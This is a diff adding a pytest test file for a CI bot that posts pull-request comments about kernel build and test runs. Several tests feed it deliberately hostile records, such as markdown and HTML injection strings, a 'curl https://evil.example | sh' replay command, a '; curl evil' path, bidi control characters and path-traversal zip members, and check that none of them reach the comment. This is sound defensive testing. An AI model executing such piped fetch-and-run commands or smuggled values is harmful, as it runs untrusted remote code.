@@ -1,0 +1,280 @@
+"""The comment of a pull request: what it says of a run, what it makes of records that lie, and which comment it is."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+from urllib.parse import parse_qs
+
+import msgspec
+import pytest
+
+from act.harness import STAND_INS
+from kci.errors import FindingsError
+from kci.plan.hardware_tests import tree_under_test
+from kci.plan.plan import TestLeg
+from kci.run.kernel_tests import TestState
+from kci.run.records import PLAN_FILE, RECORD_FILE, TEST_FILE, TestedVariant, TestRecord, write_record
+from kci.tree.manifest import Manifest, Origin, Present
+from kci.watch.github_api import GitHubApi
+from kci.watch.pull_request import BOT, PullTalk, comment_of, run_number
+from planning import leg
+from run.records.test_gate import CPU, CUDA, FAILURE, planned, record
+
+sys.path.insert(0, str(STAND_INS))
+import github_talk
+
+HERE, SHA = "example/kernels", "a" * 40
+FORK = {"full_name": "stranger/kernels", "owner": {"login": "stranger"}}
+OWN = {"full_name": HERE, "owner": {"login": "example"}}
+WRITES = {"metadata": "read", "actions": "read", "pull-requests": "write"}
+
+
+class World:
+    """GitHub with one pull request, whose run is 41."""
+
+    def __init__(self, folder: Path, repo: dict[str, Any] = OWN) -> None:
+        self.uploads = folder / "artifacts"
+        self.uploads.mkdir()
+        self.records = folder / "records"
+        self.records.mkdir()
+        self.may = WRITES
+        self.asked: list[str] = []
+        run = {
+            "id": 41, "event": "pull_request", "path": ".github/workflows/kci.yml", "head_sha": SHA,
+            "head_branch": "topic", "head_repository": repo, "run_attempt": 1, "conclusion": "failure",
+        }  # fmt: skip
+        pull = {"number": 7, "state": "open", "head": {"sha": SHA, "repo": repo}}
+        self.state: dict[str, Any] = {"runs": [run], "pulls": [pull], "artifacts": {"41": str(self.uploads)}}
+        self.pulls = PullTalk(GitHubApi(HERE, "may it?", self.answer))
+
+    def answer(self, command: list[str], *, input: bytes, **_: Any) -> subprocess.CompletedProcess[bytes]:
+        method, address = command[3], command[4].removeprefix(f"repos/{HERE}/")
+        path, _, query = address.partition("?")
+        self.asked.append(f"{method} {path}")
+        asked = {key: value[0] for key, value in parse_qs(query).items()}
+        try:
+            found = github_talk.answered(self.state, method, path, asked, json.loads(input), self.may)
+        except github_talk.Refused as error:
+            return subprocess.CompletedProcess(command, 1, b"", str(error).encode())
+        if found is None:
+            return subprocess.CompletedProcess(command, 1, b"", b"gh: Not Found (HTTP 404)")
+        data = found if isinstance(found, bytes) else json.dumps(found).encode()
+        return subprocess.CompletedProcess(command, 0, data, b"")
+
+    def upload(self, artifact: str, file: str, what: msgspec.Struct | bytes) -> None:
+        (self.uploads / artifact).mkdir(exist_ok=True)
+        if isinstance(what, bytes):
+            (self.uploads / artifact / file).write_bytes(what)
+        else:
+            write_record(self.uploads / artifact / file, what)
+
+    def comment(self) -> str:
+        """What kci says of the run."""
+        run = self.pulls.run(41)
+        (pull,) = self.pulls.pulls_of(run)
+        left = self.pulls.fetch_records(run, self.records)
+        return comment_of(pull, run, self.records, left, HERE)
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> World:
+    return World(tmp_path)
+
+
+PLAN = planned(legs=(leg(CPU, "relu"), leg(CUDA, "relu")))
+
+
+def test_the_comment_says_what_there_is_and_how_to_repeat_what_failed(world: World) -> None:
+    world.upload("run-plan.1", PLAN_FILE, PLAN)
+    failed = record("relu", CPU, complete=False, missing=(CUDA,), failures=(FAILURE,), sizes={CPU: 12_345_678})
+    world.upload("run-record.relu.1", RECORD_FILE, failed)
+    body = world.comment()
+    assert body.startswith("<!-- kci-pull-request: run 41 attempt 1 -->\n### kci: 1 of what was planned did not happen")
+    assert f"[Run 41](https://github.com/{HERE}/actions/runs/41/attempts/1) of {SHA} failed." in body
+    assert f"| `relu` | `{CPU}` | 12.3 MB | built |" in body
+    assert f"| `relu` | `{CUDA}` |  | **missing** |" in body
+    assert "`relu.cu(3): error: no`" in body
+    path = PLAN.legs[0].path
+    assert f"      gh pr checkout 7 && kci build --variant={CUDA} --container=auto -- {path}\n" in body
+
+
+def test_all_is_there_only_if_run_and_records_say_so(world: World) -> None:
+    world.upload("run-plan.1", PLAN_FILE, PLAN)
+    world.upload("run-record.relu.1", RECORD_FILE, record("relu", CPU, CUDA))
+    assert "### kci: the run did not end well\n" in world.comment()
+    world.state["runs"][0]["conclusion"] = "success"
+    assert "### kci: all that was planned is there, in 1 kernel\n" in world.comment()
+    (world.uploads / "run-plan.1" / PLAN_FILE).unlink()
+    for file in world.records.rglob("*.json"):
+        file.unlink()
+    assert "### kci: what the run came to is not known\n" in world.comment()
+
+
+def test_tests_are_counted(world: World) -> None:
+    test = TestLeg("relu", "relu", "cuda-x86_64-linux", "cuda", "x86_64-linux", (CUDA,), ("gpu",), 60)
+    manifest = Manifest("relu", 1, (CUDA,), (Present(CUDA, "d", "cuda", Origin("x")),), (), complete=True)
+    passed = TestRecord(
+        kernel="relu", leg=test.name, attempt=1, passed=True, tested=(CUDA,),
+        tree=tree_under_test(manifest.digests, test.variants),
+        variants=(TestedVariant(CUDA, TestState.PASSED, passed=1203, skipped=4),),
+    )  # fmt: skip
+    world.upload("run-plan.1", PLAN_FILE, planned(legs=(leg(CUDA, "relu"),), tests=(test,)))
+    world.upload("run-record.relu.1", RECORD_FILE, record("relu", CUDA, manifest=manifest))
+    world.upload("run-test.relu.1", TEST_FILE, passed)
+    assert "| `relu` | `cuda-x86_64-linux` | passed: 1,203 tests, 4 skipped |" in world.comment()
+    world.upload("run-test.relu.1", TEST_FILE, msgspec.structs.replace(passed, tree="another"))
+    assert "| `relu` | `cuda-x86_64-linux` | **failed** |" in world.comment()
+
+
+EVIL = (
+    "` @team ](https://evil.example) <img src=x> <!-- --> | a | #1 \u202egnp\u2066 $(rm) https://evil.example \x1b[31m"
+)
+
+
+def test_records_that_lie_become_no_markup_and_no_command(tmp_path: Path) -> None:
+    world = World(tmp_path, FORK)
+    lies = [
+        msgspec.structs.replace(
+            leg(CUDA, "relu"), kernel=EVIL, path="; curl evil", name=EVIL, variants=(EVIL,), image="evil"
+        )
+    ]
+    lies.append(msgspec.structs.replace(leg(CUDA, "relu"), path="../../etc", image="docker.io/evil"))
+    world.upload("run-plan.1", PLAN_FILE, planned(legs=tuple(lies)))
+    told = msgspec.structs.replace(FAILURE, error=EVIL * 30, replay="curl https://evil.example | sh")
+    world.upload(
+        "run-record.relu.1",
+        RECORD_FILE,
+        record("relu", complete=False, failures=(told,), error=EVIL, sizes={EVIL: 2**53}),
+    )
+    body = world.comment()
+    assert "comes from jobs that the fork's commit can change" in body
+    assert "curl" not in body
+    assert "evil/" not in body
+    assert "--container" not in body, "no path has the form of one, so there is no command"
+    assert all(char.isprintable() or char in "\n\u200b" for char in body)
+    assert "@team" not in body
+    for line in body.splitlines():
+        outside = "".join(line.split("`")[::2])
+        assert line.count("`") % 2 == 0
+        assert "evil" not in outside
+        assert "<img" not in outside
+        if line.startswith("|"):
+            assert line.count("|") in (5, 4)
+    assert len(body) < 60_000
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        (b"{" * 300, "cannot be read"),
+        (b"[" * 100_000, "cannot be read"),
+        (b'{"schema": 9}', "cannot be read"),
+        (b'{"a": "' + b"x" * (17 << 20) + b'"}', "too large or damaged: `run-plan.1`"),
+    ],
+)  # fmt: skip
+def test_a_record_that_is_none_is_said_to_be_none(world: World, content: bytes, said: str) -> None:
+    world.upload("run-plan.1", PLAN_FILE, content)
+    body = world.comment()
+    assert said in body
+    assert "### kci: what the run came to is not known" in body
+
+
+def test_a_large_artifact_is_not_fetched_and_members_lead_nowhere(world: World) -> None:
+    (world.uploads / "run-big.1").write_bytes(b"x" * (5 << 20))
+    (world.uploads / "run-none.1").write_bytes(b"no archive")
+    with zipfile.ZipFile(world.uploads / "run-plan.1", "w") as archive:
+        archive.writestr(f"../../../{PLAN_FILE}", b"{}")
+        archive.writestr("../evil.sh", b"")
+    with zipfile.ZipFile(world.uploads / "run-slow.1", "w", zipfile.ZIP_LZMA) as archive:
+        archive.writestr(PLAN_FILE, b"{}")
+    world.upload("tree.relu.1", "kci-tree.tar", b"")
+    assert world.pulls.fetch_records(world.pulls.run(41), world.records) == ["run-big.1", "run-none.1", "run-slow.1"]
+    assert sum("/zip" in path for path in world.asked) == 3
+    assert [path.name for path in world.records.parent.rglob("*") if path.suffix == ".json"] == [PLAN_FILE]
+    assert not list(world.records.rglob("*evil*"))
+
+
+def test_many_rows_are_cut(world: World) -> None:
+    legs = tuple(leg(CPU, f"kernel-{number}") for number in range(400))
+    world.upload("run-plan.1", PLAN_FILE, planned(legs=legs))
+    body = world.comment()
+    assert "And 250 variants more." in body
+    assert "- and 380 more" in body
+    assert len(body) < 60_000
+
+
+def body_of(run: int, attempt: int = 1, text: str = "text") -> str:
+    return f"<!-- kci-pull-request: run {run} attempt {attempt} -->\n{text}\n"
+
+
+def test_the_one_comment_is_found_among_hundreds_and_updated(world: World) -> None:
+    others = [{"id": number, "issue": 7, "user": {"login": "a"}, "body": "no"} for number in range(200)]
+    stranger = {"id": 900, "issue": 7, "user": {"login": "stranger"}, "body": body_of(99)}
+    quoting = {"id": 901, "issue": 7, "user": {"login": BOT}, "body": "> " + body_of(99)}
+    gone = {"id": 902, "issue": 7, "user": None, "body": None}
+    world.state["comments"] = [*others, stranger, quoting, gone]
+    assert world.pulls.keep_comment(7, body_of(41)) == "written"
+    assert world.pulls.keep_comment(7, body_of(41)) == "the comment says so already"
+    assert world.pulls.keep_comment(7, body_of(41, 2)) == "updated"
+    assert world.pulls.keep_comment(7, body_of(41, 1)) == "the comment is about a newer run"
+    assert world.pulls.keep_comment(7, body_of(40, 9)) == "the comment is about a newer run"
+    assert len(world.state["comments"]) == 204
+    assert world.state["comments"][-1]["body"] == body_of(41, 2)
+    assert world.state["comments"][200:203] == [stranger, quoting, gone]
+
+
+def test_two_jobs_that_both_wrote_leave_one_comment(world: World) -> None:
+    world.state["comments"] = [
+        {"id": 1, "issue": 7, "user": {"login": BOT}, "body": body_of(40).replace("\n", "\r\n")},
+        {"id": 2, "issue": 7, "user": {"login": BOT}, "body": body_of(41)},
+    ]
+    assert world.pulls.keep_comment(7, body_of(42)) == "updated"
+    assert [item["body"] for item in world.state["comments"]] == [body_of(42)]
+
+
+def test_a_run_that_is_not_of_the_newest_commit_says_nothing(world: World) -> None:
+    run = world.pulls.run(41)
+    assert [pull.number for pull in world.pulls.pulls_of(run)] == [7]
+    world.state["pulls"][0]["head"]["sha"] = "b" * 40
+    assert world.pulls.pulls_of(run) == []
+    world.state["pulls"][0] |= {"state": "closed", "head": {"sha": SHA, "repo": OWN}}
+    assert world.pulls.pulls_of(run) == []
+    assert world.pulls.pulls_of(msgspec.structs.replace(run, head_repository=None)) == []
+
+
+@pytest.mark.parametrize(
+    "change", [{"event": "push"}, {"path": ".github/workflows/evil.yml"}, {"path": "evil/.github/workflows/kci.yml"}]
+)
+def test_another_workflow_of_the_same_name_does_not_count(world: World, change: dict[str, str]) -> None:
+    assert world.pulls.run(41).of_pull_request
+    assert msgspec.structs.replace(world.pulls.run(41), path=".github/workflows/kci.yml@main").of_pull_request
+    world.state["runs"][0] |= change
+    assert not world.pulls.run(41).of_pull_request
+
+
+@pytest.mark.parametrize(
+    ("lacking", "ask"),
+    [
+        ("actions", lambda pulls: pulls.run(41)),
+        ("pull-requests", lambda pulls: pulls.keep_comment(7, body_of(41))),
+    ],
+)  # fmt: skip
+def test_a_token_that_may_not_is_told(world: World, lacking: str, ask: Callable[[PullTalk], object]) -> None:
+    world.may = {**WRITES, lacking: "none"}
+    with pytest.raises(FindingsError, match="not accessible") as caught:
+        ask(world.pulls)
+    assert caught.value.hint == "may it?"
+    assert "comments" not in world.state or world.state["comments"] == []
+
+
+@pytest.mark.parametrize("text", ["", "0", "7/comments", "-1", "1" * 19, "7\n", "٧"])
+def test_a_number_is_one(text: str) -> None:
+    assert run_number("7") == 7
+    with pytest.raises(FindingsError, match="is not the number of a run"):
+        run_number(text)
